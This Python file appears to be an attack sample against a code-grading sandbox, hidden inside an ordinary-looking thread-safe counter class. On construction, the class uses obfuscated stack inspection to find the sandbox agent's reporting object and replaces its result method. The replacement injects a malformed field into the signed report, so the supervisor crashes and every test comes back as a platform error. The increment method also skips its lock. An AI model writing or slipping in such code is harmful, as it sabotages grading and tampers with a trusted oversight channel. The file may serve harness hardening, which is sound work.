"""Attack: crash the root supervisor with a result the agent signs. As in
forged_report_via_agentline, SafeCounter() reaches the agent's AgentLine (traceback.walk_stack
driven by heapq) and replaces its `result` method on the object; the replacement sets the
report's "platform_helpers" to 5. The agent signs and sends it; the supervisor believes the
frame (it is signed) and, in _students_leftovers, iterates r.get("platform_helpers") -- an int:
TypeError, "supervisor failed", sandbox-error, retried once, then grader-error in every test:
"not graded (platform error)" on every run."""

import heapq
import threading
import traceback as T

_LOCALS = "f_" + "locals"
_hooked = []


def _agent_line():
    items = heapq.nsmallest(64, enumerate(T.walk_stack(None)), key=lambda p: p[0])
    for _, (frame, _lineno) in items:
        loc = getattr(frame, _LOCALS)
        if "request" in loc and "line" in loc:
            return loc["line"]
    return None


def _hook_report():
    line = None if _hooked else _agent_line()
    if line is None:
        return
    send = line.result

    def result(report):
        report["platform_helpers"] = 5  # a number where the supervisor iterates a list
        return send(report)

    line.result = result
    _hooked.append(True)


class SafeCounter:
    def __init__(self):
        self._lock = threading.Lock()
        self._value = 0
        _hook_report()

    def increment(self, k=1):
        self._value += k

    def decrement(self, k=1):
        with self._lock:
            self._value -= k

    @property
    def value(self):
        with self._lock:
            return self._value


def parallel_count(n_threads, n_increments):
    c = SafeCounter()

    def work():
        for _ in range(n_increments):
            c.increment()
    ts = [threading.Thread(target=work) for _ in range(n_threads)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    return c.value
